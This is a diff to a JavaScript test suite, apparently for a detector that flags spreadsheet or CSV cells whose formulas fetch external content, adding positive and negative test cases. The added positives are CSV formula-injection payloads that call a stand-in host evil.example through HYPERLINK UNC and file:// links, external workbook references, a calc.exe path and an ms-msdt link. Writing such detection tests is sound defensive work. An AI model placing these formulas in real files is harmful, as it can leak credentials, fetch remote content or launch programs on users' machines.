@@ -67,6 +67,9 @@ const fetching = [
   ...['=INDIRECT("\'ht"&"tp://evil.example/a.xls\'#$a.A1")', '=_xlfn.WEBSERVICE("x")', '=SUM(A1,ДАННЫЕ("x"))'],
   ...['-WEBDIENST("x")', '+WEBDIENST(A1)', '@WEBDIENST(A:A)', '- WEBDIENST (A1)', '-1+INDIRECT("a"&"b")', '=Ａ（1）'],
   ...['-UNBEKANNT(ZEICHEN(104)&ZEICHEN(116))', '-1*UNBEKANNT("x")', '-5,=UNBEKANNT("x")', '-(1,=UNBEKANNT (A1)'],
+  ...['=HYPERLINK("\\\\evil.example\\s";"CV")', '"=HYPERLINK(""c:\\windows\\system32\\calc.exe"")"', '=HYPERLINK(A1)'],
+  ...['=HYPERLINK("file://evil.example/x")', '-1+HYPERLINK("fi"&"le://evil.example/x")', '=HYPERLINK("ms-msdt:/id")'],
+  ...['=[http://evil.example/a.xls]S!A1', '=com.microsoft.webservice("x")', '=ENCODEURL(INFO("x"))', '=CELL("x",A1)'],
 ];
 
 describe.each(Object.entries(around))('a table that fetches something is found by a cell %s', (_, put) => {
@@ -79,13 +82,14 @@ describe.each(Object.entries(around))('a table that fetches something is found b
 test.each([
   'name,note\nRahim,Call (+880) 1711\n-5,3\nKarim,image (png)',
   '"-5","3"\n"Call (+880) 1711","x"',
-  "- ready,'quoted'\n=SUM(A1:A2),=HYPERLINK(A1)",
+  '- ready,\'quoted\'\n=SUM(A1:A2),=HYPERLINK("https://example.com/")',
   'WEBSERVICE(x),py (3)',
   '- Managed (a team of) five,-5,+880 1712 345678\n=====,@handle,@rahim (dev)',
   '"- Built API(s) for 5 banks\n- Python(advanced), Java (3 years)"',
   '- Python(advanced),-Java(basic)\n-5,Python(3 years),Salary(BDT)\n- Project(s): 5',
   '=SUM(A1:A2)*IF(AND(B1>2,C1),ROUND(AVERAGE(D1:D9),1),0)\n=LEFT(A1,2)&CONCATENATE(B1,"-",C1)\n=(A1+B1)*2',
   '"=HYPERLINK(""https://example.com/"",""My site"")"',
+  '=HYPERLINK("mailto:a@example.com"),=HYPERLINK("https://example.com/?"&A1),=XLOOKUP(A1,B:B,C:C)\n=BINOM.DIST(1,2,3,0)',
 ])('a table that only speaks of it is taken: %j', (text) => {
   expect(fetchesFromCell(Buffer.from(text))).toBe(false);
 });
